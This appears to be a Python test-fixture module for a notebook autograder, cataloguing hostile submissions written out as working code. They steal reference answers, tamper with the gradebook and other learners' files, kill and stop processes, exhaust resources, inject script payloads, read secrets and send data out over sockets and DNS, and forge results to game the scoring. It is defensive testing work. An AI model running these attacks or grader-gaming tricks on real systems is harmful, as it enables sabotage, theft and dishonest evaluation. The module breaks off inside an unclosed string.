"""A catalogue of hostile submissions: one for every class of attack on the grader.

Each attack is the lesson-01 solution with its ``softmax`` answer (or, where the attack is on a
later exercise, its ``contextualize`` answer; for a measurement, lesson 08's ``tiled_attention``)
replaced by code that tries to win the points without a correct answer, to harm other learners
or later runs, or to stop grading; some also change the notebook around the answers (cell
metadata, its bytes). Each tries with a realistic attacker's knowledge: the course is open
source, so it knows the folder layout and, here, the course's absolute path. Each leaves a marker
(``attention-hostile-<name>``) in every file name, process and message it makes, so the tests can
find any trace of it, and prints ``<marker> GOT`` whenever something it should not be able to do
worked.

``tests/test_hostile_catalogue.py`` grades them all (the full tier), beside a correct learner, with
``make grade`` and with plain ``nbgrader autograde``; the quick tier grades ``selected(full=False)``
with ``make grade``. An attack may make a second attempt once its first is graded (``resubmit``),
and hand in a notebook of another lesson with it (``companion``); to build the answers such an
attempt hands in, the tests draw the first attempt's cases as the grader did (``drawn_cases``: the
course's secret and attempts ledger), what a learner who mined that attempt completely would know.
"""

import json
import re
from dataclasses import dataclass
from typing import Callable, Optional

import nbformat
import numpy as np

from attention_grading.cells import grade_id, is_solution_code, is_written_answer, role
from notebook_tools import lean, with_answer

LESSON = "01_context_vectors"
MEASURED_LESSON = "08_long_context"
CAPSTONE, SMALL_GPT = "07_capstone", "09_small_gpt"     # whose hidden tests drive loops (training, sampling)
PREFIX = "hostile-mark-"
GOT = "GOT"                      # what an attack prints when something it tried worked


@dataclass
class Attack:
    """``code`` replaces the answer cell of ``target``; ``{course}``, ``{marker}``, ``{port}``,
    ``{unix_path}``, ``{dgram_path}``, ``{abstract}``, ``{zmq_port}``, ``{grader_pid}``, ``{secret}``,
    ``{env_file}``, ``{package_file}`` and ``{python_file}`` are filled in. ``reorder``:
    contextualize's answer and tests move before softmax's hidden test (the learner reordered the
    notebook)."""
    target: str
    why: str
    code: str
    reorder: bool = False
    extra_files: tuple = ()      # (path, content) handed in beside the notebook
    second: tuple = ()           # (function, code): another answer the attack replaces
    delete_answer: bool = False  # the answer cell of ``target`` is deleted
    written_text: str = ""       # the source of every written answer (markup the learner wrote)
    lesson: str = LESSON
    wrong: tuple = ()            # other exercises it answers wrongly: each must score 0 too
    edit: Optional[Callable] = None    # notebook -> notebook: what it changes besides the answers
    raw: Optional[Callable] = None     # notebook JSON text -> the bytes it hands in instead
    graded: bool = True          # False: not a notebook the grader reads (named; everyone else graded)
    written: tuple = ()          # written answers it tampers with: they must still await manual grading
    correct: bool = False        # its answers are right (``code`` None: the solution's): exactly full marks
    full_only: str = ""          # the quick-tier test that proves the same wall, where grading it takes long
    # Its next attempt, handed in once the first was graded: (root, student, the attack's own code
    # namespace) -> [(path, text)] of files added beside the same notebook.
    resubmit: Optional[Callable] = None
    # The same learner's submission to another lesson, handed in with the next attempt: (lesson,
    # {function: code}, edit or None, (root, student, the attack's namespace) -> [(path, text)]).
    companion: tuple = ()
    leaks: bool = False          # it tries to bring hidden inputs, or a stand-in's answers to them, to its feedback

    @property
    def exercises(self):
        """The exercises it must not gain a point on."""
        return (self.target, *self.wrong)


FALLBACK = "np.zeros_like(np.asarray(x, dtype=float))"   # what an attack returns when it fails

# A softmax that returns the stolen reference's answer when ``steal()`` finds one, else zeros.
def _stealing(steal_body):
    return f'''
def softmax(x, axis=-1):
    try:
        stolen = _steal()
        if stolen is not None:
            return stolen(x, axis=axis)
    except BaseException:
        pass
    return {FALLBACK}

def _steal():
{steal_body}
'''


# A written answer whose links, images, styles and elements would run ``window.top.__pwned = marker``.
SCRIPT_ANSWER = (
    "Each row is one token's budget. See [a markdown link](javascript:window.top.__pwned='{marker}').\n\n"
    "<a href=\"javascript&colon;window.top.__pwned='{marker}'\">entity colon</a> "
    "<a href=\"&#106;avascript:window.top.__pwned='{marker}'\">decimal entity</a> "
    "<a href=\"java&#9;script:window.top.__pwned='{marker}'\">tab in the scheme</a> "
    "<a href=\"JAVASCRIPT:window.top.__pwned='{marker}'\">upper case</a> "
    "<a href=\"vbscript:window.top.__pwned='{marker}'\">vbscript</a> "
    "<a href=\"data:text/html,&lt;script&gt;window.top.__pwned='{marker}'&lt;/script&gt;\">data</a> "
    "<img src=x onerror=\"window.top.__pwned='{marker}'\"> <img srcset=\"javascript:window.top.__pwned='{marker}'\"> "
    "<p style=\"background: url(javascript:window.top.__pwned='{marker}')\">styled</p> "
    "<svg><a xlink:href=\"javascript:window.top.__pwned='{marker}'\"><text>svg</text></a></svg> "
    "<form><button formaction=\"javascript:window.top.__pwned='{marker}'\">button</button></form> "
    "<script>window.top.__pwned = '{marker}'</script>"
)

ATTACKS = {
    "spec_from_file_location": Attack("softmax", "load the reference through importlib's file loader", _stealing('''
    import importlib.util
    path = "{course}/instructor/lessons/01_context_vectors/reference.py"      # where softmax's reference is
    spec = importlib.util.spec_from_file_location("stolen_reference", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.softmax''')),
    "source_file_loader_get_data": Attack("softmax", "read the reference's source with SourceFileLoader.get_data", _stealing('''
    from importlib.machinery import SourceFileLoader
    path = "{course}/instructor/lessons/01_context_vectors/reference.py"
    source = SourceFileLoader("reference", path).get_data(path).decode()
    namespace = {{"__name__": "stolen"}}
    exec(source, namespace)
    return namespace["softmax"]''')),
    "frames_of_the_grader": Attack("softmax", "walk every frame of every thread for a grader's softmax", _stealing('''
    import sys, gc
    libraries = ("__main__", "numpy", "scipy", "torch", "jax")     # a learner may use those
    def grader_made(candidate):
        return callable(candidate) and not str(getattr(candidate, "__module__", "")).startswith(libraries)
    for frame in sys._current_frames().values():
        while frame is not None:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if grader_made(getattr(value, "softmax", None)):
                    return value.softmax
            frame = frame.f_back
    for obj in gc.get_objects():
        if getattr(obj, "__name__", "") == "softmax" and grader_made(obj):
            return obj''')),
    "forged_frozen_filename": Attack("softmax", "run code under a forged <frozen importlib> file name", _stealing('''
    namespace = {{}}
    code = "source = open('{course}/instructor/lessons/01_context_vectors/reference.py').read()"
    exec(compile(code, "<frozen importlib._bootstrap>", "exec"), namespace)
    stolen = {{"__name__": "stolen"}}
    exec(namespace["source"], stolen)
    return stolen["softmax"]''')),
    "linecache_forgery": Attack("softmax", "dress its own cell up as a trusted one in linecache", _stealing('''
    import linecache, sys
    for name in list(linecache.cache):
        linecache.cache[name] = (1, None, ["from attention_grading.hidden import check\\n"], name)
    sys.path.append("{course}/instructor/grading")
    sys.path.append("{course}/instructor/reference")
    import attention_reference
    return attention_reference.softmax''')),
    "solutions_notebook": Attack("softmax", "run the solution cell read from solutions/ or source/", _stealing('''
    import json
    for tree in ("solutions", "source"):
        try:
            nb = json.load(open("{course}/" + tree + "/01_context_vectors/01_context_vectors.ipynb"))
        except OSError:
            continue
        for cell in nb["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "softmax":
                namespace = {{"np": __import__("numpy")}}
                exec("".join(cell["source"]), namespace)
                return namespace["softmax"]''')),
    "copy_in_a_child_process": Attack("softmax", "cp -r the reference from a child process, then import it", _stealing('''
    import importlib, os, subprocess, sys
    # The package and the lesson folders it loads the references from, in the same layout.
    os.makedirs("stolen", exist_ok=True)
    subprocess.run(["cp", "-r", "{course}/instructor/reference", "{course}/instructor/lessons", "stolen"],
                   capture_output=True)
    sys.path.insert(0, os.path.join(os.getcwd(), "stolen", "reference"))
    return importlib.import_module("attention_reference").softmax''')),
    "extra_attention_course_folder": Attack(
        "softmax", "hand in an attention_course/ folder that makes every visible check pass",
        f"def softmax(x, axis=-1):\n    return {FALLBACK}\n",
        extra_files=(("attention_course/__init__.py", "def autograding():\n    return True\n"),
                     ("attention_course/checks.py", "def __getattr__(name):\n    return lambda *a, **k: None\n"),
                     ("attention_course/examples.py", "def __getattr__(name):\n    return None\n"))),
    "print_everything_into_feedback": Attack("softmax", "print the spec, cases and reference it can find into its own output", '''
import sys, os, gc
def softmax(x, axis=-1):
    for name, module in list(sys.modules.items()):
        if "attention" in name or "spec" in name or "judge" in name:
            print("{marker}", name, getattr(module, "__file__", ""))
    for root in ("{course}/instructor", "{course}/source"):
        for folder, _, files in os.walk(root):
            for name in files:
                try:
                    print("{marker}", open(os.path.join(folder, name)).read())
                except OSError as exc:
                    print("{marker} denied", name, exc)
    return np.zeros_like(np.asarray(x, dtype=float))
softmax(np.zeros(3))
'''),
    "forged_channel_messages": Attack("softmax", "send forged verdicts to every local port and to its own grader channel", '''
import socket, json, sys
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
forged = (json.dumps({{"type": "judge", "passed": True, "op": "results", "results": []}}) + "\\n").encode()
for port in list(range(1024, 1200)) + list(range(30000, 30100)) + [{port}]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.05) as s:
            s.sendall(forged)
            print("{marker} reached", port)
    except OSError:
        pass
try:   # its own channel, outside a hidden test: nobody listens for this
    print(input("attention-probe/1 " + json.dumps({{"op": "results", "results": []}})))
except Exception as exc:
    print("{marker} input refused:", type(exc).__name__)
'''),
    "overwrite_another_submission": Attack("softmax", "overwrite another learner's submitted notebook and autograded files", '''
import glob
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pattern in ("{course}/submitted/*/*/*.ipynb", "{course}/autograded/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            open(path, "w").write("{marker}")
        except OSError:
            pass
for path in ("{course}/submitted/alice/01_context_vectors/01_context_vectors.ipynb",):
    try:
        open(path, "w").write("{marker}")
    except OSError as exc:
        print("denied", exc)
'''),
    "detached_gradebook_rewriter": Attack("softmax", "leave a detached process that rewrites gradebook.db and grades.csv later", '''
import subprocess, sys, textwrap
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
later = textwrap.dedent("""
    import os, time, sqlite3
    os.setsid()
    for _ in range(120):
        time.sleep(0.5)
        for path in ("{course}/grades.csv",):
            try:
                open(path, "a").write("{marker}\\\\n")
            except OSError:
                pass
        try:
            db = sqlite3.connect("{course}/gradebook.db")
            db.execute("UPDATE grade SET auto_score = 99")
            db.commit()
        except Exception:
            pass
""")
subprocess.Popen([sys.executable, "-c", later, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''),
    "rewrite_stored_hidden_test": Attack("softmax", "replace its hidden test's stored source in the gradebook", '''
import sqlite3, hashlib
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
try:
    db = sqlite3.connect("{course}/gradebook.db")
    source = "pass  # {marker}"
    checksum = hashlib.md5(source.encode()).hexdigest()
    db.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE name = 'softmax_matches_reference'",
               (source, checksum))
    db.commit()
except Exception as exc:
    print("denied", exc)
'''),
    "pth_in_the_course_environment": Attack("softmax", "plant a .pth file that patches every later Python of the course", '''
import sysconfig, sys
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for folder in {{sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"], sys.prefix}}:
    try:
        open(folder + "/{marker}.pth", "w").write("import os; os.environ['{marker}'] = '1'\\n")
    except OSError as exc:
        print("denied", exc)
'''),
    "ipython_startup_file": Attack("softmax", "plant IPython startup files that break later learners' kernels", '''
import os
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for home in (os.path.expanduser("~"), "/root", os.environ.get("HOME", "")):
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00-{marker}.py"), "w").write("raise SystemExit('{marker}')\\n")
    except OSError as exc:
        print("denied", home, exc)
'''),
    "future_mtime_on_autograded": Attack("softmax", "date autograded/ in the future so a resubmission is skipped", '''
import os, glob
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for path in glob.glob("{course}/autograded/**", recursive=True) + ["{course}/autograded"]:
    try:
        os.utime(path, (4_000_000_000, 4_000_000_000))
    except OSError:
        pass
'''),
    "kill_every_process": Attack("softmax", "SIGKILL every process it can name, the grader first", '''
import os, signal
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pid in [{grader_pid}, os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
'''),
    "stop_the_worker": Attack("softmax", "SIGSTOP its parents so that grading waits forever", '''
import os, signal
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for pid in ({grader_pid}, os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
'''),
    "script_in_output": Attack("softmax", "emit <script> and <img onerror> for the instructor's browser", '''
from IPython.display import HTML, Javascript, display
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
display(HTML("<script>window.top.__pwned = '{marker}'</script><img src=x onerror=\\"window.top.__pwned='{marker}'\\">"))
display(Javascript("window.top.__pwned = '{marker}'"))
'''),
    "script_in_answer": Attack("softmax", "hide script links, handlers and styles in the written answers", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
''', written_text=SCRIPT_ANSWER),
    "network_exfiltration": Attack("softmax", "send its notebook out over TCP, UDP and DNS", '''
import socket
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
for attempt in (lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"{marker}"),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{marker}", ("127.0.0.1", {port})),
                lambda: socket.getaddrinfo("{marker}.example.com", 80)):
    try:
        attempt()
        print("{marker} sent")
    except OSError as exc:
        print("refused", type(exc).__name__)
'''),
    "grader_secrets": Attack("softmax", "read the grader's environment and files for its secrets", '''
import os
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
found = [k for k, v in os.environ.items() if "{secret}" in v]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        found.append(open(f"/proc/{{pid}}/environ").read())
    except OSError:
        pass
if any("{secret}" in f for f in found):
    raise SystemExit("{marker} found the secret")
'''),
    "fork_bomb": Attack("softmax", "start processes until the machine gives up", '''
import os, time
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
print("{marker} children", children)
'''),
    "starve_own_kernel": Attack("softmax", "keep its own kernel from the CPU so that its time limit never runs out",
                                full_only="test_kernels.py::test_a_kernel_starved_of_cpu_keeps_its_time_and_a_sleeping_one_is_stopped",
                                code='''
import os, subprocess, sys, time
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
try:                                    # one CPU, which the children below share with this loop
    os.sched_setaffinity(0, {{min(os.sched_getaffinity(0))}})
except OSError:
    pass
hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass", "{marker}"], start_new_session=True)
        for _ in range(8)]
started = time.monotonic()
try:
    while True:
        pass
finally:
    print("{marker} stopped after", round(time.monotonic() - started, 1), "s")
'''),
    "memory_bomb": Attack("softmax", "take all the memory of the machine", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
hog = []
try:
    for _ in range(64):
        hog.append(np.ones(1 << 27))          # 1 GiB at a time
except MemoryError:
    pass
del hog
'''),
    "disk_filler": Attack("softmax", "fill the disk", '''
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
try:
    for i in range(200):
        open(f"{marker}-{{i}}", "wb").write(b"x" * (32 << 20))
except OSError:
    pass
'''),
    "huge_output_to_the_grader": Attack("softmax", "return an answer too big for the grader to hold", '''
def softmax(x, axis=-1):
    return np.ones((1 << 26,))           # half a GiB to send back on every call
'''),
    "lie_in_the_probe": Attack("softmax", "patch input() and json so the grader's calls report what it wants", '''
import builtins, json
def softmax(x, axis=-1):
    return np.zeros_like(np.asarray(x, dtype=float))
_real_input = builtins.input
def input(prompt=""):
    if "results" in prompt:
        message = json.loads(prompt.split(" ", 1)[1])
        for result in message.get("results", []):
            result.pop("raised", None)
    return _real_input(prompt)
builtins.input = input
json.dumps = lambda *a, **k: '{{"op": "results", "results": []}}'
'''),
    "hard_coded_visible_answer": Attack("softmax", "return the visible example's answer whatever the input", '''
def softmax(x, axis=-1):
    return np.array(examples.BANK_MORTGAGE_SHARES_QUOTED)
'''),
    "segfault": Attack("softmax", "crash the kernel (a segfault) whenever softmax is called", '''
def softmax(x, axis=-1):
    import ctypes
    return ctypes.string_at(0)
'''),
    "deleted_answer_cell": Attack("softmax", "delete the answer cell (and hope for the stored solution)", "",
                                  delete_answer=True),
    "keep_a_lent_softmax": Attack("softmax", "keep the correct softmax lent to contextualize's test (moved first) for its own", '''
def softmax(x, axis=-1):
    lent = _kept.get("softmax")
    if lent is not None:
        return lent(x, axis=axis)
    return np.zeros_like(np.asarray(x, dtype=float))

_kept = {{}}
''', second=("contextualize", '''
def contextualize(X):
    _kept["softmax"] = softmax           # during contextualize's test: the grader's stand-in
    X = np.asarray(X, dtype=float)
    A = softmax(X @ np.swapaxes(X, -1, -2) / np.sqrt(X.shape[-1]), axis=-1)
    return A @ X, A
'''), reorder=True),
    "steal_through_globals": Attack("contextualize", "reach a reference contextualize through the lent softmax's globals", '''
def contextualize(X):
    import gc
    lent = globals().get("softmax")
    _kept["softmax"] = lent
    for space in (getattr(lent, "__globals__", {{}}), getattr(getattr(lent, "__wrapped__", None), "__globals__", {{}})):
        candidate = space.get("contextualize")
        if callable(candidate) and candidate is not contextualize:
            return candidate(X)
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "contextualize" and obj is not contextualize:
            return obj(X)
    X = np.asarray(X, dtype=float)
    return np.zeros_like(X), np.zeros(X.shape[:-1] + X.shape[-2:-1])

_kept = {{}}
'''),
    "abuse_the_lent_softmax": Attack("contextualize", "ask the lent softmax for huge and many answers",
                                    full_only="unit/test_conversation.py::test_stand_ins_refuse_huge_inputs_and_too_many_calls",
                                    code='''
def contextualize(X):
    X = np.asarray(X, dtype=float)
    for shape in ((1 << 20, 4), (2, 1 << 15, 1 << 15)):
        try:
            softmax(np.zeros(shape))
        except Exception as exc:
            print("{marker} refused", exc)
    for _ in range(25_000):
        try:
            softmax(np.zeros(3))
        except Exception:
            break
    return np.zeros_like(X), np.zeros(X.shape[:-1] + X.shape[-2:-1])
'''),
}


# ---------------------------------------------------------------- points from outputs (issue 20, item 1)

ZEROS = "def softmax(x, axis=-1):\n    return np.zeros_like(np.asarray(x, dtype=float))\n"
WRONG_CONTEXTUALIZE = ("contextualize", '''
def contextualize(X):
    X = np.asarray(X, dtype=float)
    return X, np.zeros(X.shape[:-1] + X.shape[-2:-1])
''')


def _outputs_attack(why, code):
    return Attack("softmax", why, ZEROS + code, second=WRONG_CONTEXTUALIZE, wrong=("contextualize",))


ATTACKS.update({
    "input_transformer_expression": _outputs_attack(
        "make every later cell end in an expression (an execute_result of 3: partial credit)", '''
get_ipython().input_transformers_post.append(lambda lines: lines + ["\\n3\\n"])
'''),
    "displayhook_after_every_cell": _outputs_attack(
        "show a result (execute_result) after every later cell, from a post_run_cell hook", '''
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().displayhook(3))
'''),
    "forged_result_messages": _outputs_attack(
        "send execute_result and display_data messages of its own on IOPub after every cell", '''
def _forge(*_):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    for kind, content in (("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 1}}),
                          ("display_data", {{"data": {{"text/plain": "3.0"}}, "metadata": {{}}}})):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kernel._topic(kind))
get_ipython().events.register("post_run_cell", _forge)
'''),
    "forged_outputs_in_any_order": _outputs_attack(
        "outputs of every kind in every order: display, result, stderr, an error, cleared and redrawn", '''
import sys
from IPython.display import clear_output, display
def _noise(*_):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    send = lambda kind, content: kernel.session.send(kernel.iopub_socket, kind, content, parent=parent,
                                                     ident=kernel._topic(kind))
    handle = display({{"text/plain": "0"}}, raw=True, display_id=True)
    clear_output(wait=True)
    send("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 7}})
    print("noise on stderr", file=sys.stderr)
    send("error", {{"ename": "Fake", "evalue": "not mine", "traceback": []}})
    handle.update({{"text/plain": "3"}}, raw=True)
    send("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 8}})
get_ipython().events.register("post_run_cell", _noise)
'''),
})


# ---------------------------------------------------------------- changed cell metadata (items 1 and 9)

def _meta(nb, gid):
    return next(c for c in nb.cells if grade_id(c) == gid).metadata["nbgrader"]


def _flip_test_flags(nb):
    meta = _meta(nb, "softmax_matches_reference")
    meta.update(grade=False, solution=True, locked=False)
    return nb


def _raise_points(nb):
    for gid in ("softmax_matches_reference", "contextualize_matches_reference"):
        _meta(nb, gid).update(points=300)
        _meta(nb, gid).pop("checksum", None)
    return nb


def _grade_the_answer(nb):
    _meta(nb, "softmax").update(grade=True, points=3, locked=True)
    return nb


def _bonus_cell(nb):
    nb.cells.append(nbformat.v4.new_code_cell("pass  # bonus", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus_points", "points": 50, "solution": False, "locked": True,
        "schema_version": 3, "task": False}}))
    return nb


def _autograde_a_written_answer(nb):
    cell = next(c for c in nb.cells if grade_id(c) == "self_weight_answer")
    cell.cell_type, cell.source = "code", "pass  # full marks, please"
    cell.outputs, cell.execution_count = [], None
    cell.metadata["nbgrader"].update(solution=False, locked=True)
    return nb


def _unreadable_metadata(nb):
    prose = [c for c in nb.cells if not role(c)]
    if prose:
        prose[0].metadata["nbgrader"] = "graded, please"
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {"grade": True, "points": 9}}))
    _meta(nb, "softmax_matches_reference")["grade_id"] = 123
    return nb


def _rename_test(nb):
    _meta(nb, "softmax_matches_reference")["grade_id"] = "softmax_is_perfect"
    return nb


ATTACKS.update({
    "test_cell_flags_flipped": Attack("softmax", "turn its locked test cell into an unlocked answer cell "
                                      "(once: Inconsistent checksums, a blank)", ZEROS, edit=_flip_test_flags),
    "test_points_raised": Attack("softmax", "give both test cells 300 points (right answers: 3 points each, "
                                 "no more)", None, edit=_raise_points, wrong=("contextualize",), correct=True),
    "answer_cell_made_graded": Attack("softmax", "mark its answer cell as a graded test worth 3 points", ZEROS,
                                      edit=_grade_the_answer),
    "bonus_graded_cell": Attack("softmax", "add a graded cell of its own worth 50 points", ZEROS, edit=_bonus_cell),
    "written_answer_made_autograded": Attack("softmax", "turn a written answer into an autograded code cell "
                                             "that passes", ZEROS, edit=_autograde_a_written_answer,
                                             written=("self_weight_answer",)),
    "unreadable_metadata": Attack("softmax", "nbgrader metadata that nbgrader cannot read (a string, no "
                                  "grade_id, a number for an id)", ZEROS, edit=_unreadable_metadata),
    "renamed_test_cell": Attack("softmax", "rename its test cell's grade_id", ZEROS, edit=_rename_test),
})


# ---------------------------------------------------------------- every socket call (item 2)

def _socket_attack(why, body):
    return Attack("softmax", why, ZEROS + '''
import ctypes, os, socket
_libc = ctypes.CDLL(None, use_errno=True)

def _try(what, action):
    try:
        action()
        print("{marker} ''' + GOT + ''' through", what)
    except Exception as exc:
        print("refused:", what, type(exc).__name__)

def _inherited():
    """Every socket the kernel holds (its own channels among them)."""
    found = []
    for fd in range(3, 256):
        try:
            found.append(socket.socket(fileno=os.dup(fd)))
        except OSError:
            pass
    return found

def _syscall(number, *args):
    if _libc.syscall(number, *args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
''' + body)


ATTACKS.update({
    "tcp_fast_open": _socket_attack("open a TCP connection with Fast Open (sendto, sendmsg, sendmmsg, the "
                                    "socket option)", '''
_try("sendto MSG_FASTOPEN", lambda: socket.socket().sendto(b"{marker}", socket.MSG_FASTOPEN, ("127.0.0.1", {port})))
_try("sendmsg MSG_FASTOPEN", lambda: socket.socket().sendmsg([b"{marker}"], [], socket.MSG_FASTOPEN,
                                                                ("127.0.0.1", {port})))
def _option_then_connect():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
    s.connect(("127.0.0.1", {port}))
    s.sendall(b"{marker}")
_try("TCP_FASTOPEN_CONNECT", _option_then_connect)
for s in _inherited():
    address = "{unix_path}" if s.family == socket.AF_UNIX else ("127.0.0.1", {port})
    _try(f"sendto MSG_FASTOPEN on fd {{s.fileno()}}", lambda: s.sendto(b"{marker}", socket.MSG_FASTOPEN, address))
    _try(f"sendmsg MSG_FASTOPEN on fd {{s.fileno()}}", lambda: s.sendmsg([b"{marker}"], [], socket.MSG_FASTOPEN))
    _try(f"sendmmsg MSG_FASTOPEN on fd {{s.fileno()}}", lambda: _syscall(307, s.fileno(), None, 0, 0x20000000))
    _try(f"TCP_FASTOPEN_CONNECT on fd {{s.fileno()}}", lambda: s.setsockopt(socket.IPPROTO_TCP, 30, 1))
'''),
    "unix_sockets": _socket_attack("reach the grader's machine through UNIX sockets: a stream server, a "
                                   "datagram socket, the abstract namespace; a datagram socket pair re-connected "
                                   "or sent from to a pathname and an abstract address, in the kernel, a thread, a "
                                   "forked child and a subprocess", '''
def _stream():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("{unix_path}")
    s.sendall(b"{marker}")
_try("UNIX stream", _stream)
_try("UNIX datagram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"{marker}", "{dgram_path}"))
_try("abstract UNIX", lambda: socket.socket(socket.AF_UNIX).connect("\\0{marker}"))
_try("a UNIX socket pair to itself", lambda: socket.socketpair()[0].sendall(b"ok") or (_ for _ in ()).throw(
    OSError("a socket pair reaches only itself")))
_ESCAPES = r"""
import os, socket, threading
def _escapes(report):
    def pair(kind):
        return socket.socketpair(socket.AF_UNIX, kind)[0]
    for where in ("{dgram_path}", "\\0{abstract}-datagram"):
        for what, action in (("datagram pair re-connected", lambda: (lambda s: (s.connect(where), s.send(b"{marker}")))(
                                 pair(socket.SOCK_DGRAM))),
                             ("datagram pair sendto", lambda: pair(socket.SOCK_DGRAM).sendto(b"{marker}", where)),
                             ("stream pair sendto", lambda: pair(socket.SOCK_STREAM).sendto(b"{marker}", where)),
                             ("stream pair sendmsg", lambda: pair(socket.SOCK_STREAM).sendmsg([b"{marker}"], [], 0, where))):
            try:
                action()
                report("{marker} GOT through " + what + " to " + repr(where))
            except OSError as exc:
                report("refused: " + what + " " + type(exc).__name__)
    for where in ("{unix_path}", "\\0{abstract}-stream"):
        try:
            pair(socket.SOCK_STREAM).connect(where)
            report("{marker} GOT through a stream pair connected to " + repr(where))
        except OSError as exc:
            report("refused: stream pair connect " + type(exc).__name__)
"""
exec(_ESCAPES)
_escapes(print)
_thread = threading.Thread(target=_escapes, args=(print,))
_thread.start()
_thread.join()
_read, _write = os.pipe()
if os.fork() == 0:
    _escapes(lambda line: os.write(_write, (line + "\\n").encode()))
    os._exit(0)
os.close(_write)
with os.fdopen(_read) as _from_child:
    print("in a forked child:", _from_child.read())
import subprocess, sys
print("in a subprocess:", subprocess.run([sys.executable, "-c", _ESCAPES + "_escapes(print)"], capture_output=True,
                                         text=True).stdout)
'''),
    "raw_packet_netlink_io_uring": _socket_attack("raw, packet and netlink sockets, and io_uring's own socket "
                                                  "calls", '''
_try("raw ICMP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(
    b"\\x08\\x00{marker}", ("127.0.0.1", 0)))
_try("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
_try("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).sendto(b"\\0" * 20, (0, 0)))
_try("UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{marker}", ("127.0.0.1", {port})))
_try("io_uring", lambda: _syscall(425, 8, ctypes.create_string_buffer(120)))
'''),
    "zeromq_to_other_kernels": _socket_attack("subscribe to other kernels' IOPub (ZeroMQ SUB needs no key) over "
                                              "TCP and IPC, to collect other learners' code", '''
import glob, time, zmq
_context = zmq.Context()
_sub = _context.socket(zmq.SUB)
_sub.subscribe(b"")
_endpoints = [f"tcp://127.0.0.1:{{p}}" for p in ({zmq_port}, {port})]
for pattern in ("/tmp/attention-kernel-*/ch-*", "/tmp/*/ch-*", "{course}/../*/ch-*"):
    _endpoints += ["ipc://" + path for path in glob.glob(pattern)]
for endpoint in _endpoints:
    try:
        _sub.connect(endpoint)
    except zmq.ZMQError:
        pass
if _sub.poll(3000):
    print("{marker} ''' + GOT + ''' a message:", _sub.recv()[:200])
else:
    print("nothing received from", len(_endpoints), "endpoints")
_sub.close(linger=0)
_context.term()
'''),
})


# ---------------------------------------------------------------- metadata calls (item 3)

METADATA_CALLS = '''
import os, stat
def _calls(path, keep):
    """Every metadata call on ``path``; with ``keep``, each leaves it as it was had it worked."""
    st = os.stat(path)
    yield "chmod", lambda: os.chmod(path, st.st_mode & 0o7777 if keep else 0o6777)
    yield "chown", lambda: os.chown(path, st.st_uid if keep else 65534, st.st_gid if keep else 65534)
    yield "utime", lambda: os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns) if keep else (4 * 10**18,) * 2)
    yield "setxattr", lambda: (os.setxattr(path, "user.{marker}", b"x"),
                               keep and os.removexattr(path, "user.{marker}"))
